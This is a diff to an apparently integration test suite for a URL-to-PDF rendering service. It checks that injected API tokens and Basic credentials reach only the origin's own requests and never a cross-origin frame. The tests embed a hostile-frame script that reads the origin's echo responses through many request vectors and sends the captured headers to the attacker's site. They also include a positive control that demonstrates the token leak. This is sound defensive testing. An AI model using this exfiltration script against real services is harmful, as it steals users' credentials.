@@ -15,7 +15,10 @@ import { tmpdir } from 'node:os';
 import { join } from 'node:path';
 import { DynamoDBClient } from '@aws-sdk/client-dynamodb';
 import { DynamoDBDocumentClient, ScanCommand } from '@aws-sdk/lib-dynamodb';
+import chromium from '@sparticuz/chromium';
+import puppeteer, { type Protocol } from 'puppeteer-core';
 import { afterAll, beforeAll, describe, expect, inject, it, vi } from 'vitest';
+import { CHROMIUM_FLAGS } from '#lib/render/browser.ts';
 import type { StackInfo } from '#lib/local/stack.ts';
 import { startStackProcess, stopStackProcess, type StackProcess } from '../../bench/lib/stack-process.ts';
 import { createKey, download, expectApiError, generate, generateAndDownload, post, request, runKeyTool, quotaUsed, type TestKey } from '../support/api.ts';
@@ -171,7 +174,8 @@ describe('url options', () => {
 
     it('a page that redirects to another origin is printed from there without them, and so is an image that redirects', async () => {
       // Prepare: the page on the origin redirects to the other origin's echo page, which loads an image
-      // from the origin that itself redirects to the other origin.
+      // from the origin that itself redirects to the other origin (a request the other origin's page
+      // started, so not the origin's own: it goes without them too).
       const probe = randomUUID();
       const token = `token-${randomUUID()}`;
       const password = `pw-${randomUUID()}`;
@@ -194,10 +198,13 @@ describe('url options', () => {
         expect(received.headers).not.toHaveProperty('authorization');
       }
       expect(JSON.stringify(elsewhere)).not.toContain(token);
-      // ... while both redirecting requests, on the origin, carried them
+      // ... while the document's own redirect carried them, and the image's, asked by the other
+      // origin's page, did not
       const hops = await receivedBy(publicSite, probe);
-      expect(hops).toHaveLength(2);
-      for (const hop of hops) expect(hop.headers).toMatchObject({ 'x-api-token': token, authorization: basic('reporter', password) });
+      expect(hops.map((hop) => new URL(hop.path, publicSite).searchParams.get('probe'))).toEqual([`${probe}-hop`, `${probe}-image-hop`]);
+      expect(hops[0]!.headers).toMatchObject({ 'x-api-token': token, authorization: basic('reporter', password) });
+      expect(hops[1]!.headers).not.toHaveProperty('x-api-token');
+      expect(hops[1]!.headers).not.toHaveProperty('authorization');
     });
 
     it('every request of a busy page ends, and one made under a service worker still carries them', async () => {
@@ -228,6 +235,201 @@ describe('url options', () => {
       expect(onOrigin.filter((received) => received.path.startsWith('/pixel.svg'))).toHaveLength(30);
       expect(onOrigin.some((received) => received.path.startsWith('/echo'))).toBe(true);
       for (const received of onOrigin) expect(received.headers['x-api-token']).toBe(token);
+    });
+  });
+
+  describe('they are lent to the origin’s own requests only, never to a frame of another origin (issue #29)', () => {
+    /** What the hostile frame tries, each named in its probe (`<probe>-b-<name>`) as the origin receives it. */
+    const HOSTILE_REQUESTS = ['omit', 'same-origin', 'include', 'blank', 'worker', 'no-cors', 'basic', 'image', 'image-no-referrer', 'script', 'sheet', 'sheet-image', 'frame', 'form'];
+    /** The hostile frame's reads of the origin's answer (`<probe>-leak-<name>` at its own site). */
+    const READABLE = ['omit', 'same-origin', 'blank', 'worker'];
+
+    /**
+     * A page of otherSite, framed by the document, that asks the document's origin for its /echo
+     * page (which shows the headers it received and lets any origin read it) every way a page can:
+     * fetch in each credentials mode, from an about:blank frame of its own and from a worker, and
+     * with an image, a script, a style sheet (whose own image names the style sheet as referrer), a
+     * frame, a posted form. What it can read it reports to its own site; then it tells the document.
+     */
+    function hostileFrame(probe: string): string {
+      return `<!doctype html><body><iframe name="child"></iframe><script>
+        const A = ${JSON.stringify(publicSite)}, P = ${JSON.stringify(probe)};
+        const url = (what, path = '/echo?cors=1&') => A + path + 'probe=' + P + '-b-' + what;
+        const report = (what, text) => fetch('/pixel.svg?probe=' + P + '-leak-' + what + '&data=' + encodeURIComponent(text.slice(0, 3000)));
+        const read = (what, init, fetcher = fetch) => fetcher(url(what), init).then((r) => r.text()).then((t) => report(what, t), () => report(what, 'unreadable'));
+        const loaded = (element) => new Promise((done) => { element.onload = element.onerror = done; });
+        const image = (what, policy) => { const img = new Image(); if (policy) img.referrerPolicy = policy; img.src = url(what, '/pixel.svg?'); return loaded(img); };
+        const blank = document.createElement('iframe');
+        document.body.append(blank);
+        const worker = new Worker(URL.createObjectURL(new Blob([
+          'fetch(' + JSON.stringify(url('worker')) + ', { credentials: "omit" }).then((r) => r.text()).then((t) => postMessage(t), () => postMessage("unreadable"))',
+        ], { type: 'text/javascript' })));
+        const script = document.createElement('script');
+        script.src = url('script');
+        const sheet = document.createElement('link');
+        sheet.rel = 'stylesheet';
+        sheet.href = url('sheet', '/style.css?bg=' + encodeURIComponent(url('sheet-image', '/pixel.svg?')) + '&');
+        const frame = document.createElement('iframe');
+        frame.src = url('frame');
+        const child = document.querySelector('iframe[name=child]');
+        const form = document.createElement('form');
+        form.method = 'post';
+        form.action = url('form');
+        form.target = 'child';
+        document.body.append(script, sheet, frame, form);
+        const posted = loaded(child);
+        form.submit();
+        Promise.all([
+          read('omit', { credentials: 'omit' }),
+          read('same-origin'),
+          read('include', { credentials: 'include' }),
+          read('blank', { credentials: 'omit' }, blank.contentWindow.fetch.bind(blank.contentWindow)),
+          new Promise((done) => { worker.onmessage = (event) => done(report('worker', event.data)); }),
+          fetch(url('no-cors'), { mode: 'no-cors', credentials: 'include' }),
+          fetch(url('basic', '/basic-auth?'), { mode: 'no-cors', credentials: 'include' }),
+          image('image'),
+          image('image-no-referrer', 'no-referrer'),
+          loaded(script),
+          loaded(sheet).then(() => getComputedStyle(document.body).backgroundImage),
+          loaded(frame),
+          posted,
+        ]).then(() => setTimeout(() => parent.postMessage('hostile-done', '*'), 300));
+      </script>`;
+    }
+
+    /**
+     * The document: a page of the origin that asks its own origin for things (an image, a frame, fetch
+     * with and without credentials, the Basic-protected page) and frames the hostile page.
+     */
+    function documentUrl(probe: string): string {
+      const html = `<!doctype html><p id="basic">basic</p>
+        <img src="/pixel.svg?probe=${probe}-own-image">
+        <iframe src="/echo?probe=${probe}-own-frame"></iframe>
+        <iframe src="${otherSite}/document?html=${encodeURIComponent(hostileFrame(probe))}"></iframe>
+        <script>
+          addEventListener('message', (event) => { if (event.data === 'hostile-done') window.hostileDone = true; });
+          Promise.all([
+            fetch('/echo?probe=${probe}-own-fetch'),
+            fetch('/echo?probe=${probe}-own-omit', { credentials: 'omit' }),
+            fetch('/basic-auth?probe=${probe}-own-basic').then((r) => r.text()).then((t) => { document.getElementById('basic').innerHTML = t; }),
+          ]).then(() => { window.ownDone = true; });
+        </script>`;
+      return `${publicSite}/document?probe=${probe}-own-document&html=${encodeURIComponent(html)}`;
+    }
+
+    const READY = 'window.hostileDone === true && window.ownDone === true';
+
+    /** What the hostile frame reported to its own site, by what it read. */
+    async function reports(probe: string): Promise<Record<string, string>> {
+      const received = await receivedBy(otherSite, `${probe}-leak-`);
+      return Object.fromEntries(
+        received.map((report) => {
+          const query = new URL(report.path, otherSite).searchParams;
+          return [(query.get('probe') ?? '').slice(`${probe}-leak-`.length), query.get('data') ?? ''];
+        }),
+      );
+    }
+
+    /** What the origin received from the hostile frame, by the name in its probe. */
+    async function askedByHostileFrame(probe: string): Promise<Map<string, ReceivedRequest>> {
+      const received = await receivedBy(publicSite, `${probe}-b-`);
+      return new Map(received.map((request) => [(new URL(request.path, publicSite).searchParams.get('probe') ?? '').slice(`${probe}-b-`.length), request]));
+    }
+
+    it('positive control: in plain Chromium, with the headers added to every request to the origin, the hostile frame reads them and sends them home', async () => {
+      // Prepare: the service's Chromium and flags, no service: the header is added by DevTools to every
+      // request to the origin, whoever starts it (what the service did before issue #29)
+      const probe = randomUUID();
+      const token = `token-${randomUUID()}`;
+      chromium.setGraphicsMode = false;
+      const browser = await puppeteer.launch({ executablePath: process.env.CHROME_PATH || (await chromium.executablePath()), headless: 'shell', pipe: true, args: [...CHROMIUM_FLAGS] });
+      try {
+        const page = await browser.newPage();
+        const session = await page.createCDPSession();
+        session.on('Fetch.requestPaused', (event: Protocol.Fetch.RequestPausedEvent) => {
+          const headers = [...Object.entries(event.request.headers).map(([name, value]) => ({ name, value })), { name: 'X-Api-Token', value: token }];
+          void session.send('Fetch.continueRequest', { requestId: event.requestId, headers }).catch(() => undefined);
+        });
+        await session.send('Fetch.enable', { patterns: [{ urlPattern: `${publicSite}/*`, requestStage: 'Request' }] });
+
+        // Act
+        await page.goto(documentUrl(probe));
+        await page.waitForFunction(READY, { timeout: 20_000 });
+
+        // Assess: every read the hostile frame made of the origin's answer carried the token home ...
+        const read = await reports(probe);
+        for (const what of READABLE) expect(read[what], what).toContain(token);
+        expect(read.include).toBe('unreadable');
+        // ... and every one of its vectors reached the origin
+        expect([...(await askedByHostileFrame(probe)).keys()].sort()).toEqual([...HOSTILE_REQUESTS].sort());
+      } finally {
+        await browser.close();
+      }
+    });
+
+    it('through the service, the hostile frame reads the origin’s answers without them, and no request it starts carries them', async () => {
+      // Prepare
+      const probe = randomUUID();
+      const token = `token-${randomUUID()}`;
+      const authorization = basic(BASIC_AUTH_USER, BASIC_AUTH_PASSWORD);
+
+      // Act
+      const { bytes } = await generateAndDownload(key.apiKey, {
+        url: documentUrl(probe),
+        http_headers: { 'X-Api-Token': token },
+        basic_auth: { username: BASIC_AUTH_USER, password: BASIC_AUTH_PASSWORD },
+        wait_for_expression: READY,
+      });
+
+      // Assess: the hostile frame did read the origin's answers (the same reads as in plain Chromium) ...
+      const read = await reports(probe);
+      for (const what of READABLE) expect(read[what], what).toContain('Echo');
+      expect(read.include).toBe('unreadable');
+      // ... but nothing it sent home holds the token or the credentials
+      const home = JSON.stringify(await receivedBy(otherSite, probe));
+      expect(home).not.toContain(token);
+      expect(home).not.toContain(authorization);
+      expect(home).not.toContain(encodeURIComponent(authorization));
+      // Every request it started reached the origin, each without them (no Basic challenge answered either)
+      const asked = await askedByHostileFrame(probe);
+      expect([...asked.keys()].sort()).toEqual([...HOSTILE_REQUESTS].sort());
+      for (const [what, request] of asked) {
+        expect(request.headers, what).not.toHaveProperty('x-api-token');
+        expect(request.headers, what).not.toHaveProperty('authorization');
+      }
+      // The origin's own requests all carried them: the page, its image, its frame, its fetches with
+      // and without credentials, and the Basic-protected page, which let it in
+      const own = await receivedBy(publicSite, `${probe}-own-`);
+      expect(own.map((request) => new URL(request.path, publicSite).searchParams.get('probe')).sort()).toEqual(
+        ['basic', 'document', 'fetch', 'frame', 'image', 'omit'].map((what) => `${probe}-own-${what}`),
+      );
+      for (const request of own) expect(request.headers).toMatchObject({ 'x-api-token': token, authorization });
+      expect(await pdfText(bytes)).toContain(squeeze(`Signed in as ${BASIC_AUTH_USER}`));
+    });
+
+    it('a form another origin’s frame posts to the top is followed, without them', async () => {
+      // Prepare: the hostile frame posts a form to the origin's echo page in place of the whole page
+      const probe = randomUUID();
+      const token = `token-${randomUUID()}`;
+      const hostile = `<form id="f" method="post" target="_top" action="${publicSite}/echo?probe=${probe}-b-top"></form><script>document.getElementById('f').submit();</script>`;
+      const html = `<p>Framing</p><iframe src="${otherSite}/document?html=${encodeURIComponent(hostile)}"></iframe>`;
+
+      // Act
+      const { bytes } = await generateAndDownload(key.apiKey, {
+        url: `${publicSite}/document?probe=${probe}-own&html=${encodeURIComponent(html)}`,
+        http_headers: { 'X-Api-Token': token },
+      });
+
+      // Assess: the page printed is the echo page the form brought, which received no token
+      const text = await pdfText(bytes);
+      expect(text).toContain('Echo');
+      expect(text).not.toContain(token);
+      // (the document's own URL holds the probe too, inside the frame's html)
+      const [posted, ...more] = (await receivedBy(publicSite, `${probe}-b-top`)).filter((request) => request.path.startsWith('/echo'));
+      expect(more).toEqual([]);
+      expect(posted!.headers.origin).toBe(otherSite);
+      expect(posted!.headers).not.toHaveProperty('x-api-token');
+      expect((await receivedBy(publicSite, `${probe}-own`))[0]!.headers['x-api-token']).toBe(token);
     });
   });
 
